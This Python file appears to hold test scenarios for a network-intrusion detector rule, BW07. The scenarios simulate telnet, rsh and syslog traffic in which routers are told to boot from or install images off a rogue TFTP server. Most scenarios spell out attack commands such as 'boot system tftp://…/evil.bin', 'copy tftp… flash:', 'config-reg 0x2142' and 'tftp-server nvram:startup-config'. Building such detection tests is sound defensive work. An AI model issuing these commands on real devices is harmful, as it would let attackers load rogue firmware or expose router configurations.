"""BW07: a command in clear sets or uses a network boot."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import syslog
from bootwarden.traffic.telnet import BACKSPACE, DELETE, KILL_LINE, Telnet, rsh
from bootwarden.traffic.wire import Wire

DEVICE, ATTACKER, ADMIN, OPERATOR = "10.0.1.1", "10.0.6.6", "10.0.9.10", "10.0.2.30"
ROGUE, SERVER = "10.0.6.66", "10.0.0.5"
IMAGE = "c2900-universalk9-mz.SPA.157-3.M8.bin"


def command(server: str | None = ROGUE, file: str | None = "evil.bin", device: str = DEVICE) -> Notice:
    """The notice of one command."""
    return Notice("Boot_Command", device, server, file)


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, "10.0.6.6", "10.0.1.1")],
    site=HQ,
    with_site=Expect((command(),)),
)
def bw07_boot_system_typed(wire: Wire) -> None:
    """An attacker logs in by telnet and sets a router to boot from his TFTP server."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    session.typed("configure terminal", "Enter configuration commands, one per line.  End with CNTL/Z.")
    session.typed(f"boot system tftp://{ROGUE}/evil.bin")
    session.typed("end")
    session.typed("write memory", "Building configuration...\n[OK]")
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, "10.0.9.10", "10.0.1.1")],
    raises_with_site=[("BW07", 10, "10.0.9.10", "10.0.1.1")],
    site=HQ,
    with_site=Expect((command(),)),
)
def bw07_abbreviated_and_edited(wire: Wire) -> None:
    """The same from an admin's machine, key by key, abbreviated, with rubbed out letters and killed lines."""
    session = Telnet(wire, ADMIN, DEVICE, by_key=True)
    session.login()
    session.typed("conf t")
    session.typed(f"no shut{KILL_LINE}bbo{BACKSPACE * 2}oo sysx{DELETE} tft evil.bin {ROGUE}")
    session.typed("end")
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 7, "10.0.1.1", "10.0.9.20"),
        ("BW07", 7, "10.0.1.2", "10.0.9.20"),
        ("BW07", 7, "10.0.1.3", "10.0.9.20"),
        ("BW07", 8, "10.0.1.4", "10.0.9.20"),
    ],
    site=HQ,
    with_site=Expect(
        (
            command(),
            command(file="jinstall-evil.tgz", device="10.0.1.2"),
            command(file="evil.swi", device="10.0.1.3"),
            command(file="evil.cfg", device="10.0.1.4"),
        )
    ),
)
def bw07_logged_by_syslog(wire: Wire) -> None:
    """The devices' own command logging tells of it: IOS, Junos, EOS (RFC 5424) and NX-OS."""
    url = f"tftp://{ROGUE}/"
    syslog.ios(
        wire,
        DEVICE,
        f"%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:boot system {url}evil.bin",
        host="edge1",
    )
    text = f"UI_CMDLINE_READ_LINE: User 'root', command 'request system software add {url}jinstall-evil.tgz reboot '"
    syslog.bsd(wire, "10.0.1.2", "mx1", "mgd[4711]", text)
    text = f"%ACCOUNTING-6-CMD: admin vty4 {ATTACKER} stop task_id=9 service=shell cmd=copy {url}evil.swi flash: <cr>"
    syslog.rfc5424(wire, "10.0.1.3", "leaf1", "Aaa", text)
    text = f"%AAA-6-AAA_ACCOUNTING_MESSAGE: update:{ATTACKER}@pts/0:admin:copy {url}evil.cfg startup-config (SUCCESS)"
    syslog.send(wire, "10.0.1.4", f"<190>: 2026 Jan  5 08:00:00 UTC: {text}")


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1, "10.0.6.6", "10.0.1.1"), ("BW07", 6, "10.0.6.6", "10.0.1.2")],
    site=HQ,
    with_site=Expect((command(file="evil.bin"), command(device="10.0.1.2"))),
)
def bw07_copy_dialogue_and_rsh(wire: Wire) -> None:
    """`copy tftp: flash:` asks for server and file at its prompts; another router gets its order by rsh."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    session.typed("copy tftp: flash:", "", prompt="Address or name of remote host []? ")
    session.typed(ROGUE, "", prompt="Source filename []? ")
    session.typed("evil.bin", "", prompt="Destination filename [evil.bin]? ")
    session.typed("", f"Accessing tftp://{ROGUE}/evil.bin...")
    session.close()
    rsh(wire, ATTACKER, "10.0.1.2", f"copy tftp://{ROGUE}/evil.bin flash:")


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 5, "10.0.1.1", "10.0.9.10")],
    site=HQ,
    with_site=Expect((command(file="evil.bin"),)),
)
def bw07_loader_output(wire: Wire) -> None:
    """Behind a terminal server, a router's loader says from where it loads."""
    session = Telnet(wire, ADMIN, DEVICE, prompt="rommon 1 > ")
    session.typed("set", "PS1=rommon ! >")
    session.tcp.reply(
        f"Loading evil.bin from {ROGUE} (via GigabitEthernet0/0): !!!!!!\r\n[OK - 85053068 bytes]\r\n".encode()
    )
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 0, "10.0.6.6", "10.0.1.3"),
        ("BW07", 2, "10.0.6.6", "10.0.1.1"),
        ("BW07", 3, "10.0.6.6", "10.0.1.2"),
    ],
    site=HQ,
    with_site=Expect(
        (command(None, "startup-config"), command(None, None, "10.0.1.2"), command(None, None, "10.0.1.3"))
    ),
)
def bw07_without_a_server(wire: Wire) -> None:
    """Orders that name no server: serving the configuration by TFTP, ignoring NVRAM, a netboot from ROMMON."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    session.typed("tftp-server nvram:startup-config")
    session.close()
    session = Telnet(wire, ATTACKER, "10.0.1.2")
    session.login()
    session.typed("config-reg 0x2142")
    session.close()
    session = Telnet(wire, ATTACKER, "10.0.1.3", prompt="rommon 1 > ")
    session.typed("tftpdnld -r")
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((command(),)),
)
def bw07_no_echo(wire: Wire) -> None:
    """The client edits and shows its lines itself, so the device echoes none."""
    session = Telnet(wire, ATTACKER, DEVICE, enter=b"\r\n")
    session.typed_blind("admin")
    session.typed_blind("conf t")
    session.typed_blind(f"boot system tftp://{ROGUE}/evil.bin")
    session.close()


@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
def bw07_only_looking(wire: Wire) -> None:
    """An operator shows, removes, comments and asks for help; the device's output lists such lines."""
    lines = f"boot system tftp evil.bin {ROGUE}\nboot system tftp://{ROGUE}/evil.bin\ntftp-server flash:x"
    session = Telnet(wire, OPERATOR, DEVICE)
    session.login()
    session.typed("show running-config | include boot system tftp", lines)
    session.typed(f"no boot system tftp://{ROGUE}/evil.bin")
    session.typed(f"! boot system tftp evil.bin {ROGUE}")
    session.typed("boot system tftp ?", "  WORD  System image filename")
    session.typed(f"do show flash: | inc tftp://{ROGUE}", "")
    session.typed(f"description boot system tftp://{ROGUE}/evil.bin")
    session.typed("more nvram:startup-config", lines + f"\nLoading is done from tftp://{ROGUE}/x by hand only")
    session.close()


@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
def bw07_not_a_device_talk(wire: Wire) -> None:
    """Someone writes about it on an old Unix host, and a password happens to read like a command."""
    session = Telnet(wire, OPERATOR, "10.0.2.7", prompt="$ ")
    session.login(user="tom", password="copyright tftp")
    session.typed("echo we boot the system by tftp these days >> notes")
    session.typed("grep 'boot system' notes")
    session.close()


@scenario(
    "BW07",
    "benign",
    # A rule does not see that the device echoes no password.
    raises=[(*rule, ADMIN, device) for device in (DEVICE, "10.0.1.2") for rule in (("BW05", 3), ("BW07", 0))],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(evidence=()),
)
def bw07_passwords_like_commands(wire: Wire) -> None:
    """Passwords that are boot commands are typed at login and at enable, whole and key by key."""
    for number, by_key in enumerate((False, True)):
        session = Telnet(wire, ADMIN, f"10.0.1.{1 + number}", by_key=by_key, prompt="edge1>")
        session.login(user="tom", password="reload")
        session.typed("enable", "", prompt="Password: ")
        session.typed_blind("tftpdnld")
        session.typed("show clock", "08:00:00.000 UTC Mon Jan 5 2026", prompt="edge1#")
        session.close()


@scenario(
    "BW07",
    "benign",
    raises=[("BW07", 0, "10.0.9.10", "10.0.1.1"), ("BW07", 1, "10.0.9.10", "10.0.1.1")],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(
        evidence=(
            {"device": DEVICE, "server": SERVER, "file_name": IMAGE, "verdict": "expected", "user": "anna"},
            {
                "device": DEVICE,
                "server": "boot.corp.example",
                "file_name": "edge1-confg",
                "verdict": "expected",
            },
        )
    ),
)
def bw07_declared_server(wire: Wire) -> None:
    """An admin host copies an image from the declared server, and sets the declared name for configurations."""
    session = Telnet(wire, ADMIN, DEVICE)
    session.login(user="anna")
    session.typed(f"copy tftp://{SERVER}/{IMAGE} flash:", "Destination filename [x]?", prompt="")
    session.typed("conf t")
    session.typed("boot host tftp://boot.corp.example/edge1-confg")
    session.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1, "10.0.9.10", "10.0.1.1"), ("BW07", 6, "10.0.9.10", "10.0.1.2")],
    raises_with_site=[("BW07", 11, "10.0.9.10", "10.0.1.1"), ("BW07", 16, "10.0.9.10", "10.0.1.2")],
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("Boot_Command", "10.0.1.1", "10.0.6.66", "evil.bin"),
            Notice("Boot_Command", "10.0.1.2", "10.0.6.66", "evil.bin"),
        )
    ),
)
def bw07_from_an_admin_host(wire: Wire) -> None:
    """From an admin host, an image is installed and another copied from a rogue server, by telnet and by rsh."""
    session = Telnet(wire, ADMIN, DEVICE)
    session.login()
    session.typed(f"install add file tftp://{ROGUE}/evil.bin activate commit")
    session.close()
    rsh(wire, ADMIN, "10.0.1.2", f"copy tftp://{ROGUE}/evil.bin flash:")
